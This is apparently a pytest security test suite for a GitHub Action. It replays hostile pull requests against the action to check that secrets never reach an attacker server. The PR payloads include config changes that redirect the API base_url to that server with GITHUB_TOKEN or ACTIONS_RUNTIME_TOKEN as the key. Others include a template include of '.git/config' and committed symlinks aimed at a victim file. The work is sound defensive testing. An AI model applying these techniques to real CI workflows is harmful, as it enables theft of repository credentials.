"""Issue 9, as a runner would run it: a hostile pull request against the action.

Three loopback servers: the fake GitHub API, the fake Anthropic API the workflow points
``ANTHROPIC_BASE_URL`` at, and an "attacker" server that the pull request tries to reach. Every
route the issue measured is replayed; the attacker must receive nothing, and no secret may appear
in the comment, the job summary, the outputs or the report.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from pathlib import Path

import pytest

from tests.builders import git
from tests.fakes.anthropic_server import FakeAnthropic
from tests.fakes.attacker_server import Attacker
from tests.fakes.github_server import FakeGitHub
from tests.fakes.simulated_model import SimulatedModel, flat, u_shape
from tests.integration.action_runner import (
    CONFIG,
    PR,
    REPO,
    STYLE_GUIDE,
    everything_published,
    make_project,
    run_action,
    runner_env,
)

GITHUB_TOKEN = "ghs_SECRETgithubTOKEN0123456789abcdef"
RUNTIME_TOKEN = "SECRETactionsRUNTIMEtoken0123456789"
OPENAI_KEY = "sk-SECRETopenai0123456789"
CHECKOUT_TOKEN = "ghs_SECRETcheckoutTOKENpersisted98765"


@pytest.fixture
def fake_model():
    with FakeAnthropic(SimulatedModel(u_shape(edge=0.97, middle=0.1, margin=0.05), seed=5)) as fake:
        yield fake


@pytest.fixture
def evil():
    with Attacker() as attacker:
        yield attacker


def _append(text: str):
    def change(repo: Path):
        cfg = repo / "needle.toml"
        cfg.write_text(cfg.read_text() + "\n" + text)

    return change


def _replace(old: str, new: str, extra: str = ""):
    def change(repo: Path):
        cfg = repo / "needle.toml"
        cfg.write_text(cfg.read_text().replace(old, new) + "\n" + extra)

    return change


def _plain(markdown: str) -> str:
    """The comment without the sanitiser's backslash escapes, to compare with plain text."""
    return markdown.replace("\\", "")


def _secret_env(env: dict) -> dict:
    env.update(GITHUB_TOKEN=GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN=RUNTIME_TOKEN, OPENAI_API_KEY=OPENAI_KEY)
    return env


ROUTES = {
    "base_url": lambda url: _append(f'[defaults.providers.anthropic]\nbase_url = "{url}"\n'),
    "github_token": lambda url: _append(
        f'[defaults.providers.anthropic]\nbase_url = "{url}"\napi_key_env = "GITHUB_TOKEN"\n'
    ),
    "runtime_token": lambda url: _append(
        f'[defaults.providers.anthropic]\nbase_url = "{url}"\napi_key_env = "ACTIONS_RUNTIME_TOKEN"\n'
    ),
    "openai_with_anthropic_key": lambda url: _replace(
        'provider = "anthropic"',
        'provider = "openai"',
        f'[defaults.providers.openai]\nbase_url = "{url}/v1"\napi_key_env = "ANTHROPIC_API_KEY"\n',
    ),
    "anthropic_counting": lambda url: _replace(
        'tokenizer = "tiktoken:o200k_base"',
        'tokenizer = "anthropic"',
        f'[defaults.providers.anthropic]\nbase_url = "{url}"\n',
    ),
}


# each route is a whole action run (~3-5 s): the fast tier keeps one, the full suite runs all
FAST_ROUTE = "base_url"


@pytest.mark.parametrize(
    "route", [r if r == FAST_ROUTE else pytest.param(r, marks=pytest.mark.slow) for r in sorted(ROUTES)]
)
@pytest.mark.slow  # >= 3 s (CONTRIBUTING: the fast tier stays under 2 minutes)
def test_no_route_delivers_a_secret_to_a_host_the_pr_chose(tmp_path, fake_model, evil, route):
    p = make_project(tmp_path, ROUTES[route](evil.url))
    with FakeGitHub(tokens={"test-token": "write", GITHUB_TOKEN: "write"}) as gh:
        env = _secret_env(
            runner_env(p, gh, fake_model, **({"recall": "false"} if "counting" in route else {}))
        )
        r = run_action(p, env)
        assert "Traceback" not in r.stderr, r.stderr
        assert r.code == 0, r.stdout + r.stderr
        assert evil.requests == [], [x.path for x in evil.requests]
        published = everything_published(r, gh)
        for secret in (fake_model.api_key, GITHUB_TOKEN, RUNTIME_TOKEN, OPENAI_KEY):
            assert not evil.saw(secret)
            assert secret not in published
        # the head was measured the base's way, at the workflow's endpoint
        if "counting" not in route:
            assert fake_model.calls["messages"] > 0
        assert fake_model.calls["count_tokens"] == 0
        body = _plain(gh.issue_comments(REPO, PR)[0]["body"])
        assert "takes effect after merge (endpoints and keys always come from the base branch)" in body


def test_git_config_cannot_be_included(tmp_path, fake_model, evil):
    def include(repo: Path):
        t = repo / "prompts" / "rag_answer.j2"
        t.write_text("{% include '.git/config' %}\n" + t.read_text())

    p = make_project(tmp_path, include)
    # what actions/checkout persists with its default `persist-credentials: true`
    git(
        p.workspace,
        "config",
        "http.https://github.com/.extraheader",
        f"AUTHORIZATION: basic {CHECKOUT_TOKEN}",
    )
    with FakeGitHub() as gh:
        r = run_action(p, _secret_env(runner_env(p, gh, fake_model)))
        assert r.code == 2, r.stdout + r.stderr
        assert "Traceback" not in r.stderr, r.stdout + r.stderr
        assert re.search(
            r"^::error file=prompts/rag_answer\.j2,line=1,.*'\.git/config' is refused", r.stdout, re.M
        )
        assert CHECKOUT_TOKEN not in r.stdout + r.stderr + r.summary + json.dumps(r.outputs)
        assert evil.requests == []


def test_a_pr_that_loosens_its_own_gate_is_judged_by_the_base_and_the_comment_says_so(tmp_path):
    def loosen(repo: Path):
        t = repo / "prompts" / "rag_answer.j2"
        lines = t.read_text().splitlines(keepends=True)
        at = next(i for i, line in enumerate(lines) if line.startswith("- Keep the answer"))
        t.write_text("".join([*lines[:at], STYLE_GUIDE + "\n", *lines[at:]]))
        cfg = repo / "needle.toml"
        text = cfg.read_text().replace('max_growth = "10%"', 'max_growth = "300%"')
        cfg.write_text(text.replace("max_input_tokens = 6000\n", "max_input_tokens = 60000\n", 1))

    p = make_project(tmp_path, loosen)
    with FakeGitHub() as gh:
        r = run_action(p, runner_env(p, gh, None, recall="false"))
        assert r.code == 1, r.stdout + r.stderr
        assert r.outputs["status"] == "fail-budget", r.stdout + r.stderr
        body = _plain(gh.issue_comments(REPO, PR)[0]["body"])
        assert (
            "this PR raises max_input_tokens of rag_answer 6,000 → 60,000: takes effect after merge" in body
        )
        assert "this PR changes max_growth of rag_answer 10% → 300%: takes effect after merge" in body
        head = json.loads((r.report / "head.json").read_text())
        rag = next(x for x in head["prompts"] if x["name"] == "rag_answer")
        assert rag["cases"][0]["max_input_tokens"] == 6000  # the base's budget was applied


@pytest.mark.slow  # >= 3 s (CONTRIBUTING: the fast tier stays under 2 minutes)
def test_a_pr_cannot_raise_its_own_spend(tmp_path, fake_model):
    base = CONFIG.format(growth="10%").replace("seed = 3\n", "seed = 3\nmax_calls = 12\n")
    raise_spend = _replace("max_calls = 12\n", "max_calls = 5000\n")

    def change(repo: Path):
        raise_spend(repo)
        cfg = repo / "needle.toml"
        cfg.write_text(cfg.read_text().replace("trials = 10\n", "trials = 200\n"))

    p = make_project(tmp_path, change, base_config=base)
    with FakeGitHub() as gh:
        r = run_action(p, runner_env(p, gh, fake_model))
        assert "Traceback" not in r.stderr
        head = json.loads((r.report / "head.json").read_text())
        assert 0 < head["totals"]["calls"] <= 12, head["totals"]
        body = _plain(gh.issue_comments(REPO, PR)[0]["body"])
        assert "raises recall.max_calls of rag_answer 12 → 5,000" in body


@pytest.mark.slow  # a whole action run (~3.5 s idle); the loosened gate below stays fast
def test_a_new_prompt_gets_the_base_defaults(tmp_path):
    def add(repo: Path):
        cfg = repo / "needle.toml"
        cfg.write_text(
            cfg.read_text()
            + '\n[prompts.extra]\ntemplate = "prompts/support_agent.j2"\n'
            + 'fixtures = ["fixtures/support_agent/typical.toml"]\nmax_input_tokens = 999999\n'
        )

    p = make_project(tmp_path, add)
    with FakeGitHub() as gh:
        r = run_action(p, runner_env(p, gh, None, recall="false"))
        assert r.code == 0, r.stdout + r.stderr
        head = json.loads((r.report / "head.json").read_text())
        extra = next(x for x in head["prompts"] if x["name"] == "extra")
        assert extra["cases"][0]["max_input_tokens"] is None  # the base's [defaults] set none
        body = _plain(gh.issue_comments(REPO, PR)[0]["body"])
        assert "the new prompt extra sets max_input_tokens to 999,999" in body


@pytest.mark.slow  # >= 3 s (CONTRIBUTING: the fast tier stays under 2 minutes)
def test_trust_pr_config_opt_out_restores_the_old_behaviour_and_says_so(tmp_path, fake_model, evil):
    p = make_project(tmp_path, ROUTES["base_url"](evil.url))
    with FakeGitHub() as gh:
        run_action(p, runner_env(p, gh, fake_model, trust_pr_config="true"))
        assert evil.requests, "with the opt-out the PR's base_url is used, as documented"
        assert "trust-pr-config" in _plain(gh.issue_comments(REPO, PR)[0]["body"])


# --------------------------------------------------------------------------- files the PR ships


def _commit_to_pr(p, files: dict[str, bytes | str], links: dict[str, str] | None = None) -> None:
    """Add FILES and symlinks LINKS to the PR branch at origin, and check it out again."""
    for rel, data in files.items():
        target = p.origin / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
    for rel, dest in (links or {}).items():
        os.symlink(dest, p.origin / rel)
    git(p.origin, "add", "-A")
    git(p.origin, "commit", "-q", "-m", "ship files")
    head = git(p.origin, "rev-parse", "HEAD")
    git(p.workspace, "fetch", "-q", "--depth=1", "origin", "feature")
    git(p.workspace, "checkout", "-q", "--detach", head)
    p.head_sha = head


@pytest.mark.slow  # two action runs (~5 s)
def test_a_committed_cache_is_never_used(tmp_path):
    p = make_project(tmp_path)
    with FakeAnthropic(SimulatedModel(flat(1.0), seed=1)) as model, FakeGitHub() as gh:
        # an offline run against a perfect model, at the very endpoint the workflow uses, writes a
        # cache whose entries match the head exactly; the PR commits it
        r = run_action(p, runner_env(p, gh, model, cache_dir=".needle-cache"))
        assert r.code == 0
        assert (p.workspace / ".needle-cache" / "recall.sqlite").exists()
        forged = (p.workspace / ".needle-cache" / "recall.sqlite").read_bytes()
        shutil.rmtree(p.workspace / ".needle-cache")
        shutil.rmtree(r.report)
        _commit_to_pr(p, {".needle-cache/recall.sqlite": forged})

        model.responder = SimulatedModel(u_shape(edge=0.97, middle=0.1, margin=0.05), seed=5)  # the real one
        model.reset()
        r = run_action(p, runner_env(p, gh, model, cache_dir=".needle-cache"))
        assert "Traceback" not in r.stderr
        assert "cache-dir `.needle-cache` is not used (the pull request ships files there)" in r.stdout
        head = json.loads((r.report / "head.json").read_text())
        assert head["totals"]["calls"] > 0
        assert model.calls["messages"] > 0
        rag = next(x for x in head["prompts"] if x["name"] == "rag_answer")
        assert rag["recall"]["reused_from"] is None
    assert (p.workspace / ".needle-cache" / "recall.sqlite").read_bytes() == forged  # untouched


def test_symlinks_the_pr_commits_redirect_no_write(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    p = make_project(tmp_path)
    _commit_to_pr(
        p,
        {".needle-report/.keep": ""},
        links={".needle-cache": str(outside), ".needle-report/comment.md": str(victim)},
    )
    with FakeGitHub() as gh:
        r = run_action(p, runner_env(p, gh, None, recall="false", cache_dir=".needle-cache"))
        assert r.code == 0, r.stdout + r.stderr
        assert "Traceback" not in r.stderr, r.stdout + r.stderr
        assert victim.read_text() == "precious\n"
        assert list(outside.iterdir()) == []
        assert r.outputs["report-path"].startswith(".needle-report-")
        assert (r.report / "comment.md").is_file()
        assert not (r.report / "comment.md").is_symlink()
        assert "cache-dir `.needle-cache` is not used" in r.stdout
